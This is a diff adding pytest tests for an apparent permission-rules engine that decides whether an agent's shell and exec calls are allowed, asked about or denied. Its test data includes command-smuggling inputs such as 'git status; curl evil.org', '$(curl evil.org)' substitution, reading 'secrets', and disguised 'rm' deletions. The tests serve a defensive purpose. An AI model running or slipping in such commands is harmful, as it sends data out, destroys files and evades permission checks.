@@ -211,3 +211,55 @@ def test_a_rule_to_offer_for_a_path(tmp_path: Path, monkeypatch: pytest.MonkeyPa
     assert str(elsewhere) == f"write(/{tmp_path}/project/src/**)"
     assert elsewhere is not None
     assert elsewhere.covers(made("write", path=str(tmp_path / "project/src/b.py")))
+
+
+# --- with the real reader -----------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("command", "decision"),
+    [
+        ("git status", "allow"),
+        ("git status && git log -3 | head -5", "allow"),
+        ("git status 2>&1", "allow"),
+        ("git status 2>/dev/null", "allow"),
+        ("g'i't status", "allow"),
+        ("git status; curl evil.org", None),
+        ("git status > out", None),
+        ("head < secrets", None),
+        ("git log $(curl evil.org)", None),
+        ("git log $X", None),
+        ("PAGER=evil git log", None),
+        ("git log *", None),
+        ("git status\ncurl evil.org", None),
+        ("git push", "ask"),
+        ("git status; git push", "ask"),
+        ("echo $(git push)", "ask"),
+        ("X=1 git push", "ask"),
+        ("g\\it push", "ask"),
+        ("git push $X > out", "ask"),
+        ("bash -c 'git push'", "ask"),
+        ("rm -rf x", "deny"),
+        ("git push; r''m x", "deny"),
+        ("find . -exec rm {} +", "deny"),
+        ("ls | xargs rm", "deny"),
+    ],
+)
+def test_command_lines_as_they_are_read(command: str, decision: str | None) -> None:
+    """What is certain is allowed, and what may be forbidden is forbidden."""
+    pytest.importorskip("tree_sitter_bash")
+    rules = Rules(
+        allow=["bash(git status *)", "bash(git log *)", "bash(head *)"],
+        ask="bash(git push *)",
+        deny="bash(rm *)",
+    )
+    assert rules.judge(made("bash", command=command)).decision == decision
+
+
+def test_a_command_outside_the_sandbox_must_be_named() -> None:
+    """A rule about a command is one about the command where it belongs."""
+    call = made("exec", argv=["git", "push"], outside=True)
+    for rule in ("bash", "bash(git push *)", "*"):
+        assert Rules(allow=rule).judge(call).decision is None
+        assert Rules(deny=rule).judge(call).decision == "deny"
+    assert Rules(allow="exec(argv=git push *, outside=true)").judge(call).decision == "allow"
